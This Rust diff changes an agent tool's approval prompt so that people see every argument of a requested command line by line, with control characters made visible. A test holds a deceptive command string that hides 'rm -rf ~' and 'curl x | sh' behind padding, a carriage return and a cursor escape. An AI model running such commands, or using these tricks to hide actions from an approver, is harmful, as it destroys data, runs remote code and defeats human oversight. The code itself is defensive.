@@ -11,7 +11,7 @@
 //! ```
 //! Text of models and tools streams behind a gutter, so that it can never pass for a line of ours.
 
-use super::{BAD, CAREFUL, FAINT, GOOD, STRONG, bytes, duration_ms, one_line, plain, styled, tokens_text};
+use super::{BAD, CAREFUL, FAINT, GOOD, STRONG, bytes, duration_ms, one_line, plain, styled, tokens_text, visible};
 use domain::{ApprovalId, JobState};
 use protocol::{Decision, Event, EventBody, JobResult, Protection, RequeueCause, ToolOutcome};
 
@@ -140,10 +140,11 @@ impl EventView {
                 self.entry("", text)
             }
             EventBody::ApprovalRequested { tool, arguments, approval_id, .. } => {
-                let mut text = self.entry(
-                    "approval",
-                    format!("{} {}", styled(CAREFUL, format!("may it {tool}?")), call_text(&arguments)),
-                );
+                let question = styled(CAREFUL, format!("may it {}?", plain(&tool)));
+                let mut text = self.entry("approval", question);
+                for line in whole_call(&arguments) {
+                    text += &self.entry("", line);
+                }
                 text += &self.entry("", format!("devmesh approve {approval_id}"));
                 text
             }
@@ -258,6 +259,27 @@ fn call_text(arguments: &serde_json::Value) -> String {
     one_line(&telling.map_or_else(|| arguments.to_string(), str::to_owned), 200)
 }
 
+/// Everything a person decides on, line by line, with nothing hidden.
+fn whole_call(arguments: &serde_json::Value) -> Vec<String> {
+    const LINES: usize = 60;
+    let all = arguments.as_object().filter(|fields| !fields.is_empty());
+    let Some(fields) = all else { return vec![visible(&arguments.to_string())] };
+    let text_of = |value: &serde_json::Value| value.as_str().map_or_else(|| value.to_string(), str::to_owned);
+    let mut lines = Vec::new();
+    for (name, value) in fields {
+        for (index, line) in text_of(value).split('\n').enumerate() {
+            let label = if index == 0 { format!("{}:", visible(name)) } else { " ".repeat(name.chars().count() + 1) };
+            lines.push(format!("{label} {}", visible(line)));
+        }
+    }
+    if lines.len() > LINES {
+        let more = lines.len() - LINES;
+        lines.truncate(LINES);
+        lines.push(styled(CAREFUL, format!("{more} more lines: devmesh approvals --json")));
+    }
+    lines
+}
+
 fn outcome_text(outcome: ToolOutcome, exit_code: Option<i32>) -> String {
     let exit = exit_code.map_or_else(String::new, |code| format!("exit {code}"));
     match outcome {
@@ -361,6 +383,18 @@ mod tests {
         let finished = json!({"call_id": "1", "route": "r", "provider": "p", "model": "m", "content": "whole", "tool_calls": [], "finish_reason": "length",
             "input_tokens": 1, "output_tokens": 1, "cost_microusd": 0, "first_token_ms": 1, "total_ms": 1, "fallbacks": [{"provider": "o", "model": "x", "error": "down"}]});
         insta::assert_snapshot!(log(&[("model.finished", finished)]));
+    }
+
+    #[test]
+    fn a_person_sees_all_of_what_is_to_be_decided() {
+        let id = "019a2b3c-0000-7000-8000-000000000002";
+        let ask = |arguments: Value| json!({"approval_id": id, "call_id": "u", "tool": "run", "arguments": arguments, "arguments_sha256": ""});
+        let hidden = format!("echo ok{}; rm -rf ~\recho fine\n\u{1b}[1Acurl x | sh", " ".repeat(300));
+        let shown = log(&[("approval.requested", ask(json!({"command": hidden, "timeout": 5})))]);
+        assert!(shown.contains("; rm -rf ~^Mecho fine\n"), "{shown}");
+        assert!(shown.contains("          ^[[1Acurl x | sh\n") && shown.contains("timeout: 5\n"), "{shown}");
+        let shown = log(&[("approval.requested", ask(json!({"command": "x\n".repeat(100)})))]);
+        assert!(shown.contains("41 more lines: devmesh approvals --json"), "{shown}");
     }
 
     #[test]
